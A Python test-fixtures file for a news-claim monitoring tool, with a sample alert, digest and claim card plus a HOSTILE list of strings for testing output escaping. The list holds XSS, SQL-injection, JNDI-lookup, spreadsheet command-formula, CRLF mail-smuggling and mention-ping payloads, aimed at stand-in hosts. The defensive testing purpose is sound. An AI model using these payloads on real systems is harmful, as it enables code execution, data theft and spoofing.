"""An alert, a digest and a claim's card with every field filled, for tests of what goes out."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from watcher.core.model import (
    AlertMessage,
    Attribution,
    Comparator,
    Delta,
    DeltaKind,
    FurtherReport,
    Independence,
    Quantity,
    Reason,
    Stance,
)
from watcher.core.posts import ClaimActivity, ClaimCard, Digest, DigestLine

NOW = datetime(2024, 12, 17, 12, 0, tzinfo=UTC)

ALERT = AlertMessage(
    alert_id="0123456789",
    alert_key="0123456789abcdef" * 4,
    claim_id="damascus-400",
    claim_text="At least 400 soldiers left Damascus.",
    claim_as_of=date(2024, 12, 15),
    stance=Stance.UPDATES,
    reason=Reason.VALUE_CHANGED,
    delta=Delta(
        kind=DeltaKind.QUANTITY,
        old="at least 400 soldiers",
        new="1,200 soldiers",
        old_value=Quantity(value=400, unit="soldier", comparator=Comparator.AT_LEAST),
        new_value=Quantity(value=1200, unit="soldier"),
    ),
    quote="Some 1,200 soldiers have now left the capital, a ministry official said.",
    article_title="More soldiers leave",
    article_url="https://news.example/more?a=1&b=2",
    outlet="The Example",
    published_at=NOW - timedelta(hours=1),
    said=Attribution(speaker="Anna Petrova", role="mayor", to="AFP", quoted=True),
    credited=("Reuters",),
    independence=Independence.INDEPENDENT,
    echo_of="",
    confidence=0.83,
    confidence_word="high",
    why="same event; 1,200 instead of at least 400 soldiers",
    notes=("read from the feed's summary only",),
    standing="second independent origin: The Example, beside Reuters; 4 outlets, 2 origins",
    also=(
        FurtherReport(
            outlet="The Beacon", url="https://b.example/", independence=Independence.INDEPENDENT
        ),
        FurtherReport(outlet="Herald", url="https://h.example/", independence=Independence.ECHO),
    ),
    claim_version=2,
)

DIGEST = Digest(
    id="d123456789",
    key="d123456789abcdef" * 4,
    title="Daily digest",
    since=NOW - timedelta(days=1),
    until=NOW,
    zone="Europe/Berlin",
    lines=(
        DigestLine(message=ALERT, severity="number change"),
        DigestLine(
            message=replace(
                ALERT,
                alert_id="abcdefghij",
                alert_key="abcdef0123456789" * 4,
                claim_text="The base at Hmeimim stays.",
                stance=Stance.CONTRADICTS,
                delta=None,
            ),
            severity="contradiction",
        ),
    ),
    more=3,
    activity=(
        ClaimActivity(claim_id=ALERT.claim_id, claim_text=ALERT.claim_text, counts=(0, 2, 5)),
    ),
)

CARD = ClaimCard(
    key="c123456789abcdef" * 4,
    claim_id=ALERT.claim_id,
    claim_text=ALERT.claim_text,
    claim_as_of=ALERT.claim_as_of,
    state="contested",
    standing="contested (said by 4 outlets, 2 origins)",
    origins=2,
    last_change="The Example: 1,200 soldiers",
    last_change_at=NOW,
)

HOSTILE = (
    "<!channel> <!here> <@U012AB3CD> <https://evil.example|https://bank.example>",
    "@everyone @here @channel @all @room <@&123456> <#C0123|x> <users/all>",
    "[click](https://evil.example) ![x](https://evil.example/x.png) **bold** _it_ `code` ~~s~~",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]> <![CDATA[ &amp; &lt; &#0; &nbsp; <!-- x --> <?xml version='1.0'?>",
    "</p></div></content></entry></feed><feed>",
    "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x1b[31mred\x7f\x85\x9b",
    "line\nbreak\r\nCc: everyone@news.example\r\n\r\n.\r\nQUIT",
    "\u202egnihtemos\u202c \u2066x\u2069 \u200e\u200f\ufeff\u2028\u2029",
    "\ud800 half a pair \udfff",
    "𝕏 👩‍👩‍👧 Ω≈ç√∫ 部落格 نص ุ้",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "{{7*7}} ${jndi:ldap://evil} %s %(x)s {0} \\n \\x41 :smile:",
    '{"a": "b"}, "\\", \' OR 1=1 --',
    "=cmd|' /C calc'!A0 +1 -1",
    "x" * 20_000,
    "\ufffe\uffff\U0001fffe",
    "   ",
    "",
)
"""Ways in which text from outside has broken, pinged or formatted something elsewhere."""


def with_hostile(text: str) -> AlertMessage:
    """Return the alert with this text in every field that comes from outside."""
    return replace(
        ALERT,
        claim_text=text,
        delta=Delta(kind=DeltaKind.QUANTITY, old=text, new=text),
        quote=text,
        article_title=text,
        article_url=f"https://news.example/{text}",
        outlet=text,
        said=Attribution(speaker=text, role=text, to=text, outlet=text),
        credited=(text, text),
        echo_of=text,
        why=text,
        notes=(text,),
        standing=text,
        also=(FurtherReport(outlet=text, url=text, independence=Independence.ECHO),),
    )
